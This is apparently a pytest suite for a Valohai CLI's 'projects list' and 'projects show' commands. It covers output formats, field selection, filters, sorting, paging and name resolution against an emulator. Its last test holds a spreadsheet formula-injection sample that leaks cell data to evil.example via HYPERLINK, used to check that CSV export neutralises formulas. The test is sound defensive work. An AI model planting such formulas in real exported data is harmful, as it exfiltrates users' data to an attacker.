"""`projects list` and `projects show` in-process through cli.run against the emulator:
every format, fields, filters, sort and limit, what a pipe and a terminal get, show by id,
name and OWNER/NAME, --web, and the real shapes of the emulator's modes. Also run_list and
run_show called directly, against the emulator and with a fake client."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Generator
from pathlib import Path
from typing import Any

import pytest
from conftest import TEST_TOKEN, App, InProcessCli, emulator_env, ok, read_tsv_records, screen

from valohai_cli_lite.client import ClientSettings, Page
from valohai_cli_lite.commands.records import ListOptions, ShowOptions, run_list, run_show
from valohai_cli_lite.emulator.data import make_project, make_project_detail, project_id
from valohai_cli_lite.emulator.server import Emulator, EmulatorConfig
from valohai_cli_lite.errors import ApiError, VhLiteError
from valohai_cli_lite.kinds.projects import PROJECT
from valohai_cli_lite.kinds.query import ListQuery, SortKey, owned_by
from valohai_cli_lite.output.render import OutputFormat

# --- projects list: formats and fields -----------------------------------------------------


def test_login_then_list_json_returns_every_page_whole(
    cli: InProcessCli, emulator: Emulator
) -> None:
    assert cli.login(emulator.base_url).returncode == 0
    result = cli.run("projects", "list", "--json")
    assert result.returncode == 0, result.stderr
    projects = json.loads(result.stdout)  # stdout holds the JSON and nothing else
    expected = [make_project(i, emulator.base_url) for i in range(250)]
    assert len(projects) == 250
    assert {p["id"] for p in projects} == {p["id"] for p in expected}
    # Exactly as the API returned them: every field kept, none renamed.
    by_id = {p["id"]: p for p in expected}
    assert all(p == by_id[p["id"]] for p in projects)
    pages = [r for r in emulator.requests if r.path == "/api/v0/projects/"]
    assert len(pages) == 3


def test_every_format_lists_the_same_250_projects(cli: InProcessCli, env: dict[str, str]) -> None:
    expected = [project_id(i) for i in range(250)]
    as_json = [p["id"] for p in json.loads(ok(cli, "projects", "list", "--json"))]
    jsonl = [
        json.loads(line)["id"]
        for line in ok(cli, "projects", "list", "--format", "jsonl").splitlines()
    ]
    as_csv = list(csv.DictReader(io.StringIO(ok(cli, "projects", "list", "--format", "csv"))))
    as_tsv = read_tsv_records(ok(cli, "projects", "list", "--format", "tsv"))
    plain = ok(cli, "projects", "list", "--fields", "id").splitlines()
    assert as_json == jsonl == [r["id"] for r in as_csv] == [r["id"] for r in as_tsv] == plain
    assert sorted(as_json) == sorted(expected)
    # CSV/TSV survive a round trip: the emulator's project-0002 has quotes, tabs and newlines.
    by_id = {r["id"]: r for r in as_csv}
    tsv_by_id = {r["id"]: r for r in as_tsv}
    original = make_project(1, "http://x")
    assert by_id[project_id(1)]["description"] == original["description"]
    assert tsv_by_id[project_id(1)]["description"] == original["description"]
    assert "\t" in original["description"] and "\n" in original["description"]


def test_vh_format_env_and_json_shorthand(cli: InProcessCli, env: dict[str, str]) -> None:
    via_env = cli.run("projects", "list", "--limit", "2", env={"VH_FORMAT": "csv"})
    assert via_env.stdout.splitlines()[0].startswith("id,name,owner.username")
    # An explicit flag beats the environment.
    explicit = cli.run("projects", "list", "--limit", "1", "--json", env={"VH_FORMAT": "csv"})
    assert len(json.loads(explicit.stdout)) == 1
    explicit = cli.run("projects", "list", "--limit", "1", "--format", "tsv",
                       env={"VH_FORMAT": "csv"})  # fmt: skip
    assert explicit.stdout.startswith("id\tname\t")
    clash = cli.run("projects", "list", "--json", "--format", "csv")
    assert clash.returncode == 2
    assert cli.run("projects", "list", "--format", "yaml").returncode == 2


def test_tsv_and_utf8_survive_any_pipe_and_locale(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator
) -> None:
    tsv = cli.run("projects", "list", "--format", "tsv", encoding="ascii").stdout
    lines = tsv.split("\n")[:-1]
    assert len(lines) == 251 and {line.count("\t") for line in lines} == {7}
    records = read_tsv_records(tsv)
    assert records[1]["description"] == make_project(1, emulator.base_url)["description"]
    assert "日本語" in tsv  # UTF-8, not \\u escapes, although stdout said ASCII
    for fmt in ("csv", "json", "jsonl", "plain"):
        out = cli.run("projects", "list", "--format", fmt, "--limit", "2", encoding="ascii")
        assert "日本語" in out.stdout and "\\u65e5" not in out.stdout, fmt


def test_fields_with_dotted_paths(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator
) -> None:
    out = ok(cli, "projects", "list", "--json", "--limit", "2", "--fields", "name,owner.username")
    assert json.loads(out) == [
        {"name": "project-0001", "owner": {"username": "demo"}},
        {"name": "project-0002", "owner": {"username": "demo"}},
    ]
    csv_out = ok(
        cli,
        "projects",
        "list",
        "--format",
        "csv",
        "--limit",
        "1",
        "--fields",
        "owner.username,urls.display",
    )
    assert csv_out.splitlines()[0] == "owner.username,urls.display"
    emulator.requests.clear()
    bad = cli.run("projects", "list", "--fields", "nme,nonsense")
    assert bad.returncode == 2
    assert "unknown fields: nme, nonsense; did you mean name?" in bad.stderr
    assert "owner.username" in bad.stderr
    assert bad.stdout == ""
    assert emulator.requests == []  # caught before any request
    below = cli.run("projects", "show", project_id(4), "--json",
                    "--fields", "execution_summary.count,owner.id")  # fmt: skip
    assert json.loads(below.stdout) == {
        "execution_summary": {"count": 149}, "owner": {"id": 42},
    }  # fmt: skip
    assert cli.run("projects", "list", "--fields", "").returncode == 2


def test_piped_default_is_plain_lines(cli: InProcessCli, env: dict[str, str]) -> None:
    lines = ok(cli, "projects", "list").splitlines()
    assert len(lines) == 250
    assert lines[0].startswith("project-0001\tdemo\t1\t2024-")  # absolute ISO timestamps
    assert not any("\x1b" in line or "│" in line for line in lines)


def test_piped_listing_is_one_plain_line_per_project(cli: InProcessCli, emulator: Emulator) -> None:
    result = cli.run("projects", "list", env=emulator_env(emulator))
    assert result.returncode == 0
    lines = result.stdout.splitlines()
    assert len(lines) == 250
    assert all(len(line.split("\t")) == 5 for line in lines)
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout


def test_empty_list_is_empty_output_in_a_pipe(cli: InProcessCli) -> None:
    # "No projects found." is for a person at a terminal (test_render); a script sees nothing.
    with Emulator(EmulatorConfig(token=TEST_TOKEN, projects=0)) as emu:
        result = cli.run("projects", "list", env=emulator_env(emu))
        assert result.returncode == 0
        assert result.stdout == ""
        assert result.stderr == ""
        as_json = cli.run("projects", "list", "--json", env=emulator_env(emu))
        assert json.loads(as_json.stdout) == []


def test_odd_field_types_render_in_every_view(cli: InProcessCli, emulator: Emulator) -> None:
    odd = {"id": "22222222-2222-2222-2222-222222222222", "name": "odd", "owner": "someone",
           "description": ["a", "list"], "execution_count": "many",
           "last_execution_ctime": 12345, "ctime": {"when": "now"}, "urls": None}  # fmt: skip
    emulator.config.projects = 0
    emulator.config.extra_projects = [odd]
    cli.env.update(VH_API_TOKEN=TEST_TOKEN, VH_HOST=emulator.base_url)
    for args in (["--format", "table"], [], ["--format", "csv"], ["--json"]):
        result = cli.run("projects", "list", *args, env={"COLUMNS": "200"})
        assert result.returncode == 0, (args, result.stderr)
        assert "odd" in result.stdout
    shown = cli.run("projects", "show", "odd", "--format", "table")
    assert shown.returncode == 0, shown.stderr
    assert "12345" in shown.stdout


def test_a_progress_bar_shows_while_pages_come_only_where_a_person_watches(
    cli: InProcessCli, env: dict[str, str]
) -> None:
    # stderr on a terminal, stdout to a file: the bar shows, the data stays whole.
    watched = cli.run("projects", "list", "--json", stderr_tty=True)
    assert "Fetching projects" in watched.stderr
    assert len(json.loads(watched.stdout)) == 250
    # No bar in a pipe, for a single page, or over JSONL streaming to the same terminal.
    assert "Fetching" not in cli.run("projects", "list", "--json").stderr
    one_page = cli.run("projects", "list", "--json", "--limit", "5", stderr_tty=True)
    assert "Fetching" not in one_page.stderr
    streaming = cli.run("projects", "list", "--format", "jsonl", stdout_tty=True,
                        stderr_tty=True)  # fmt: skip
    assert "Fetching" not in streaming.stderr
    assert len(streaming.stdout.splitlines()) == 250
    table = cli.run("projects", "list", stdout_tty=True, stderr_tty=True)
    assert "Fetching" not in table.stderr  # the rows arriving are the progress
    assert len(table.stdout.splitlines()) == 251 and table.stderr.strip() == "250 projects"


# --- projects list: filters, sort, limit, paging -------------------------------------------


def test_filters_sort_and_limit_compose(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator
) -> None:
    everything = [make_project(i, emulator.base_url) for i in range(250)]
    expected = sorted(
        (p for p in everything
         if p["owner"]["username"] == "acme-org" and "nlp" in p["name"].lower()),
        key=lambda p: p["execution_count"], reverse=True,
    )[:3]  # fmt: skip
    out = ok(
        cli,
        "projects",
        "list",
        "--json",
        "--owner",
        "ACME-ORG",
        "--search",
        "NLP",
        "--sort",
        "-execution_count",
        "--limit",
        "3",
    )
    assert [p["id"] for p in json.loads(out)] == [p["id"] for p in expected]
    assert len(expected) == 3
    # A sort needs every page even with a limit and no filter: the last names are on page 3.
    emulator.requests.clear()
    last = ok(cli, "projects", "list", "--sort", "-name", "--limit", "2", "--fields", "name")
    assert last.split() == ["project-0249", "project-0247"]
    assert len(emulator.requests) == 3
    bad = cli.run("projects", "list", "--sort", "nonsense")
    assert bad.returncode == 2 and "sortable fields" in bad.stderr


def test_owner_may_be_repeated_and_sort_by_owner(cli: InProcessCli, env: dict[str, str]) -> None:
    both = json.loads(cli.run("projects", "list", "--json", "--owner", "acme-org",
                              "--owner", "1337").stdout)  # fmt: skip
    assert len(both) == 250
    by_owner = json.loads(cli.run("projects", "list", "--json", "--sort", "owner",
                                  "--fields", "owner.username").stdout)  # fmt: skip
    names = [p["owner"]["username"] for p in by_owner]
    assert names == sorted(names, key=str.casefold) and names[0] == "acme-org"
    for bad in (["--owner", ""], ["--search", " "], ["--fields", ""]):
        assert cli.run("projects", "list", *bad).returncode == 2, bad


def test_limit_caps_the_count_and_stops_fetching(cli: InProcessCli, emulator: Emulator) -> None:
    result = cli.run("projects", "list", "--json", "--limit", "5", env=emulator_env(emulator))
    assert result.returncode == 0
    assert len(json.loads(result.stdout)) == 5
    pages = [r for r in emulator.requests if r.path == "/api/v0/projects/"]
    assert len(pages) == 1 and pages[0].query["limit"] == ["5"]
    assert cli.run("projects", "list", "--limit", "0", env=emulator_env(emulator)).returncode == 2


def test_limit_without_filters_stops_fetching(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator
) -> None:
    ok(cli, "projects", "list", "--format", "jsonl", "--limit", "150")
    pages = [r for r in emulator.requests if r.path == "/api/v0/projects/"]
    assert len(pages) == 2


def test_concurrency_does_not_change_the_output(cli: InProcessCli, env: dict[str, str]) -> None:
    one_by_one = ok(cli, "projects", "list", "--format", "jsonl", "--max-concurrency", "1")
    concurrent = ok(cli, "projects", "list", "--format", "jsonl")
    assert one_by_one == concurrent
    assert len(concurrent.splitlines()) == 250
    assert cli.run("projects", "list", "--max-concurrency", "0").returncode == 2


# --- projects show -------------------------------------------------------------------------


def test_projects_show_by_id_name_and_owner_name(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator
) -> None:
    by_id = json.loads(ok(cli, "projects", "show", project_id(4), "--json"))
    assert by_id == make_project_detail(4, emulator.base_url)  # the detail, whole
    emulator.requests.clear()
    by_name = json.loads(ok(cli, "projects", "show", by_id["name"], "--json"))
    # Found in the list, then the detail object, exactly as the server sent it.
    assert by_name == by_id
    assert emulator.requests[-1].path == f"/api/v0/projects/{project_id(4)}/"
    # The views fill what the detail leaves null from the list entry: CSV has the counts.
    as_csv = next(csv.DictReader(io.StringIO(ok(cli, "projects", "show", by_id["name"],
                                                "--format", "csv"))))  # fmt: skip
    listed = make_project(4, emulator.base_url)
    assert as_csv["execution_count"] == str(listed["execution_count"])
    assert as_csv["last_execution_ctime"] == listed["last_execution_ctime"]
    owner_name = f"{by_id['owner']['username'].upper()}/{by_id['name']}"  # any case
    assert json.loads(ok(cli, "projects", "show", owner_name, "--json"))["id"] == by_id["id"]
    fields = json.loads(ok(cli, "projects", "show", project_id(4), "--json", "--fields", "name"))
    assert fields == {"name": by_id["name"]}
    plain = ok(cli, "projects", "show", project_id(4))
    assert f"urls.display\t{by_id['urls']['display']}" in plain.splitlines()


def test_projects_show_not_found_and_ambiguous(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator
) -> None:
    missing = cli.run("projects", "show", "00000000-0000-0000-0000-000000000000")
    assert missing.returncode == 1 and "not found" in missing.stderr
    unknown = cli.run("projects", "show", "no-such-project")
    assert unknown.returncode == 1 and "no project named" in unknown.stderr
    # Two projects with the same name under different owners: a bare name is ambiguous.
    original = make_project(0, emulator.base_url)
    twin = {**original, "id": "11111111-1111-1111-1111-111111111111",
            "owner": {"id": 42, "username": "acme-org"}}  # fmt: skip
    emulator.config.extra_projects = [twin]
    ambiguous = cli.run("projects", "show", original["name"])
    assert ambiguous.returncode == 1
    assert "matches 2 projects" in ambiguous.stderr
    assert f"acme-org/{original['name']}" in ambiguous.stderr
    chosen = cli.run("projects", "show", f"acme-org/{original['name']}", "--json")
    assert json.loads(chosen.stdout)["id"] == twin["id"]


def test_show_catches_mistakes_and_suggests_names(cli: InProcessCli, env: dict[str, str]) -> None:
    empty = cli.run("projects", "show", "")
    assert empty.returncode == 2 and "needs a project id, name, or OWNER/NAME" in empty.stderr
    case = cli.run("projects", "show", "Project-0001")
    assert case.returncode == 1 and "did you mean project-0001?" in case.stderr
    typo = cli.run("projects", "show", "projekt-0001")
    assert "did you mean project-0001" in typo.stderr


def test_the_web_ui_one_flag_away(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator
) -> None:
    shown = cli.run("projects", "show", "project-0005", "--web")
    assert shown.returncode == 0, shown.stderr
    assert cli.opened == [f"{emulator.base_url}/p/acme-org/project-0005/"]
    # Finding it needed the list, nothing more (no detail request).
    assert {r.path for r in emulator.requests} == {"/api/v0/projects/"}
    emulator.requests.clear()
    assert cli.run("projects", "show", project_id(4), "--web").returncode == 0
    assert cli.opened[-1] == cli.opened[0]
    assert len(emulator.requests) == 1
    emulator.requests.clear()
    listed = cli.run("projects", "list", "--web")
    assert listed.returncode == 0 and cli.opened[-1] == f"{emulator.base_url}/"
    assert emulator.requests == []


# --- real shapes from the emulator's modes (docs/emulator.md) ------------------------------


def test_show_reads_the_detail_objects_execution_summary(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator
) -> None:
    detail = make_project_detail(4, emulator.base_url)
    assert detail["execution_count"] is None  # as in the published sample
    shown = cli.run(
        "projects", "show", project_id(4), env={"TERM": "xterm"}, stdout_tty=True, stderr_tty=True
    )
    assert shown.returncode == 0, shown.stderr
    rows = {
        line.strip("│ ").split("  ", 1)[0]: line.strip("│ ").split("  ", 1)[-1].strip()
        for line in screen(shown.stdout).splitlines()
    }
    summary = detail["execution_summary"]
    assert rows["Executions"] == str(summary["count"])
    assert rows["Running"] == str(summary["started_count"])
    assert rows["Queued"] == str(summary["queued_count"])
    assert rows["Repository"] == f"{detail['repository']['url']} ({detail['repository']['ref']})"
    assert rows["Environment"] == "DATASET_VERSION, API_KEY (secret)"
    assert detail["environment_variables"]["DATASET_VERSION"]["value"] not in shown.stdout
    # Scripts get the object as the server sent it, every field.
    as_json = cli.run("projects", "show", project_id(4), "--json")
    assert json.loads(as_json.stdout) == detail
    plain = cli.run("projects", "show", project_id(4)).stdout.splitlines()
    assert f"execution_count\t{summary['count']}" in plain


def test_integer_owners_show_and_filter(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator
) -> None:
    emulator.config.legacy_data = True
    plain = cli.run("projects", "list", "--limit", "5").stdout.splitlines()
    assert [line.split("\t")[1] for line in plain] == ["1337", "1337", "1337", "1337", "42"]
    by_id = cli.run("projects", "list", "--owner", "42", "--json")
    owners = {p["owner"] for p in json.loads(by_id.stdout)}
    assert owners == {42} and len(json.loads(by_id.stdout)) == 50
    as_csv = cli.run("projects", "list", "--limit", "5", "--format", "csv").stdout
    in_csv = [row["owner.username"] for row in csv.DictReader(io.StringIO(as_csv))]
    assert in_csv == ["1337"] * 4 + ["42"]
    table = cli.run(
        "projects", "list", "--limit", "5", env={"TERM": "xterm"}, stdout_tty=True, stderr_tty=True
    )
    assert re.search(r"project-0005\s+42\s", screen(table.stdout))
    shown = cli.run("projects", "show", "42/project-0005", "--json")
    assert shown.returncode == 0, shown.stderr
    assert json.loads(shown.stdout)["id"] == project_id(4)
    # With usernames, the id matches too.
    emulator.config.legacy_data = False
    assert len(json.loads(cli.run("projects", "list", "--owner", "42", "--json").stdout)) == 50


def test_relative_links_from_the_emulators_mode(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator
) -> None:
    emulator.config.relative_urls = True
    table = cli.run("projects", "list", "--limit", "1", env={"TERM": "xterm"},
                    stdout_tty=True, stderr_tty=True)  # fmt: skip
    links = re.findall(r"\x1b\]8;id=[^;]*;([^\x1b]*)\x1b\\", table.stdout)
    assert links == [f"{emulator.base_url}/p/demo/project-0001/"]
    as_json = json.loads(cli.run("projects", "list", "--limit", "1", "--json").stdout)
    assert as_json[0]["urls"]["display"] == "/p/demo/project-0001/"


def test_relative_links_are_made_absolute_for_people_only(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator
) -> None:
    relative = {**make_project(0, ""), "id": "aaaaaaaa-0000-0000-0000-000000000001",
                "name": "minihai-style", "url": "/api/v0/projects/x/",
                "urls": {"display": "/p/alice/minihai-style/"}}  # fmt: skip
    empty = {**relative, "id": "aaaaaaaa-0000-0000-0000-000000000002", "name": "no-urls",
             "urls": {}}  # fmt: skip
    emulator.config.projects = 0
    emulator.config.extra_projects = [relative, empty]
    table = cli.run("projects", "list", env={"TERM": "xterm"}, stdout_tty=True, stderr_tty=True)
    links = re.findall(r"\x1b\]8;id=[^;]*;([^\x1b]*)\x1b\\", table.stdout)
    assert set(links) == {f"{emulator.base_url}/p/alice/minihai-style/"}  # none for no-urls
    shown = cli.run(
        "projects", "show", relative["id"], env={"TERM": "dumb"}, stdout_tty=True, stderr_tty=True
    )
    assert f"{emulator.base_url}/p/alice/minihai-style/" in shown.stdout
    as_json = json.loads(cli.run("projects", "list", "--json").stdout)
    assert as_json[0]["urls"]["display"] == "/p/alice/minihai-style/"  # as the server sent it


@pytest.mark.parametrize("mode", ["bare", "ignore_paging"])
def test_envelopes_other_servers_send_list_everything(
    cli: InProcessCli, env: dict[str, str], emulator: Emulator, mode: str
) -> None:
    if mode == "bare":
        emulator.config.envelope = "bare"  # a test double's {"results": [...]}
    else:
        emulator.config.ignore_paging = True  # the docs' sample: limit and offset ignored
    for args in (["--json"], ["--json", "--max-concurrency", "1"], ["--format", "jsonl"]):
        listing = cli.run("projects", "list", *args)
        assert listing.returncode == 0, listing.stderr
        text = listing.stdout
        ids = [p["id"] for p in json.loads(text)] if "--json" in args else text.splitlines()
        assert len(ids) == 250
    assert len(emulator.requests) == 3  # one request each


# --- the run functions, called directly ----------------------------------------------------


def test_run_list_against_the_emulator(served_app: App, emulator: Emulator) -> None:
    by_acme = (lambda project: owned_by(PROJECT, project, {"acme-org"}),)
    query = ListQuery(by_acme, sort=SortKey.parse("-name", PROJECT), limit=3)
    run_list(ListOptions(PROJECT, OutputFormat.json, ["name"], query), served_app.context)
    names = [p["name"] for p in json.loads(served_app.stdout)]
    assert len(names) == 3 and names == sorted(names, reverse=True)
    assert len(emulator.requests) == 3  # filters need every page
    # What the list looked like is remembered in the (isolated) user cache, for next time.
    remembered = json.loads((served_app.home / ".cache" / "vh-lite" / "paging.json").read_text())
    assert remembered[f"{emulator.base_url}/api/v0/projects/"][:2] == [100, 250]


class FakeClient:
    """Stands in for ValohaiClient: canned projects, and a record of what was asked."""

    def __init__(self, host: str, settings: ClientSettings) -> None:
        self.host, self.settings = host, settings
        self.asked: list[dict[str, Any]] = []
        self.token: str | None = None

    def __enter__(self) -> FakeClient:
        return self

    def __exit__(self, *exc_info: object) -> None:
        pass

    def use_token(self, token: str) -> None:
        self.token = token

    def iter_pages(self, url: str, **kwargs: Any) -> Generator[Page, None, None]:
        assert url == self.host + "/api/v0/projects/"
        self.asked.append(kwargs)
        projects = [make_project(i, self.host) for i in range(30)]
        for start in range(0, 30, 10):
            yield Page(projects[start : start + 10], 30)

    def get_object(self, path: str) -> dict[str, Any]:
        for i in range(30):
            if path == f"projects/{make_project(i, self.host)['id']}/":
                return {**make_project(i, self.host), "detail": True}
        raise ApiError("the server answered 404 Not Found", status=404)


@pytest.fixture
def faked(tmp_path: Path) -> tuple[App, list[FakeClient]]:
    made: list[FakeClient] = []

    def factory(host: str, settings: ClientSettings) -> FakeClient:
        made.append(FakeClient(host, settings))
        return made[-1]

    environ = {"VH_API_TOKEN": TEST_TOKEN, "VH_HOST": "https://vh.test"}
    return App(tmp_path, environ, client=factory), made


def test_run_list_asks_only_for_what_a_plain_limit_needs(
    faked: tuple[App, list[FakeClient]],
) -> None:
    app, made = faked
    run_list(ListOptions(PROJECT, OutputFormat.jsonl, None, ListQuery(limit=5)), app.context)
    assert len(app.stdout.splitlines()) == 5
    assert made[0].token == TEST_TOKEN and made[0].host == "https://vh.test"
    asked = [{k: v for k, v in a.items() if k not in ("guess", "learned")} for a in made[0].asked]
    assert asked == [{"page_size": 5, "max_concurrency": 32, "stop_after": 5}]
    run_list(ListOptions(PROJECT, OutputFormat.jsonl, None, ListQuery(search="x", limit=5), 2),
             app.context)  # fmt: skip
    assert made[1].asked[0]["page_size"] == 1000
    assert (made[1].asked[0]["max_concurrency"], made[1].asked[0]["stop_after"]) == (2, None)


def test_run_show_explains_a_missing_id(faked: tuple[App, list[FakeClient]]) -> None:
    app, _ = faked
    opts = ShowOptions(PROJECT, "00000000-0000-0000-0000-000000000000", OutputFormat.json, None)
    with pytest.raises(VhLiteError, match="not found \\(or not visible to you\\)"):
        run_show(opts, app.context)
    run_show(ShowOptions(PROJECT, "acme-org/project-0005", OutputFormat.json, ["id", "detail"]),
             app.context)  # fmt: skip
    # Found in the list, then shown from its detail object.
    assert json.loads(app.stdout) == {
        "id": make_project(4, "https://vh.test")["id"],
        "detail": True,
    }


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+SUM(1,1)", "@SUM(1)", "-2+3",
            "\tTAB", "\rCR"]  # fmt: skip


def test_csv_neutralises_formulas_while_other_formats_stay_exact(
    cli: InProcessCli, emulator: Emulator
) -> None:
    emulator.config.projects = 0
    emulator.config.extra_projects = [
        {"id": f"f{n}", "name": name, "execution_count": -2} for n, name in enumerate(FORMULAS)
    ]
    env = emulator_env(emulator)

    def column(fmt: str, field: str, **extra: str) -> list[str]:
        text = ok(cli, "projects", "list", "--format", fmt, env={**env, **extra})
        return [row[field] for row in csv.DictReader(io.StringIO(text, newline=""))]

    assert column("csv", "name") == ["'" + name for name in FORMULAS]
    assert column("csv", "execution_count") == ["-2"] * len(FORMULAS)  # a number, not text
    assert column("csv", "name", VH_CSV_FORMULAS="keep") == FORMULAS
    exact = json.loads(ok(cli, "projects", "list", "--json", env=env))
    assert [project["name"] for project in exact] == FORMULAS
    tsv = read_tsv_records(ok(cli, "projects", "list", "--format", "tsv", env=env))
    assert [row["name"] for row in tsv] == FORMULAS
